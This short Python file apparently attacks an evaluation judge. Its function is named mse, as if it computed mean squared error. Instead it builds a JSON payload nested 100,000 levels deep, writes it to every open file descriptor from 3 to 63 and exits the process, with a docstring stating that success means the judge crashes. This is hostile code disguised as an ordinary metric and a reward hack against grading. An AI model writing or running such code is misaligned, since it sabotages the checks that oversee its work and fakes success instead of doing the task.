"""Send a reply that is nested a hundred thousand times. Success: the judge crashes."""

import json
import os


def mse(t1, t2):
    inner = '{"kind":"Items","type":"list","items":[' * 100_000
    structure = '{"observations":[{"returned":' + inner + "]}" * 100_000 + "}]}"
    header = json.dumps({"__metadata__": {"structure": structure}}).encode()
    payload = len(header).to_bytes(8, "little") + header
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, len(payload).to_bytes(8, "little") + payload)
        except OSError:
            pass
    os._exit(0)
